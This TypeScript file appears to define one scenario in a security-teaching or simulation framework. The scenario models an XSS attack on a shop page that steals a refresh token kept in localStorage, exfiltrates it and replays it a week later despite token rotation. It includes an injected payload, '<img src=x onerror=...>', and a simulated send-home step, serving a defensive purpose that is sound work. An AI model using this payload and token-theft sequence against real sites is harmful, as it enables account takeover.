/** Script in the page reads a refresh token that the page keeps, which is good elsewhere for days. Not: a refresh token in a cookie, whose answer alone it can read (xss-refreshes.ts). */
import { document, rfc } from '#sources/sources';
import { refreshWith } from '../attacker/refresh-with';
import type { AttackUnit } from '../attacker/attack';
import { credentialCalled } from '../named-credential';

export default {
  order: 12,
  group: 'script in the page',
  label: 'Script reads the refresh token',
  also: ['XSS', 'localStorage', 'refresh token', 'token theft'],
  says: 'The page keeps its refresh token in localStorage. A script reads it, and the attacker exchanges it on another machine at once. Then 20 minutes pass, and the victim’s page refreshes too. A week later the attacker comes again.',
  grants: ['markup in a page of the shop'],
  sources: [rfc(10017, '5.1.2'), rfc(9700, '4.14.2'), document('owasp-xss')],
  scene: ['log-in', 'read-orders'],
  presupposes: { refreshStore: 'local-storage', defences: ['rotation'] },
  inapplicable: (mode, setup) =>
    credentialCalled(mode, 'refresh token', setup)?.storage === 'localStorage'
      ? undefined
      : 'The page keeps no refresh token.',
  play: async (hands) => {
    const page = await hands.inject('<img src="x" onerror="readTokens()">');
    if (!page) return;
    const stolen = page.readStorage().filter(({ type }) => type === 'refresh token');
    await page.sendHome(JSON.stringify(stolen));
    const first = await refreshWith(hands, stolen);
    // The victim’s page refreshes too, with what it has.
    await hands.meanwhile('wait-20');
    await hands.meanwhile('read-orders');
    await hands.meanwhile('wait-week');
    const { token, rest } = await refreshWith(hands, first.rest);
    if (token) await hands.replay([token, ...rest], 'GET', '/orders');
  },
} satisfies AttackUnit;
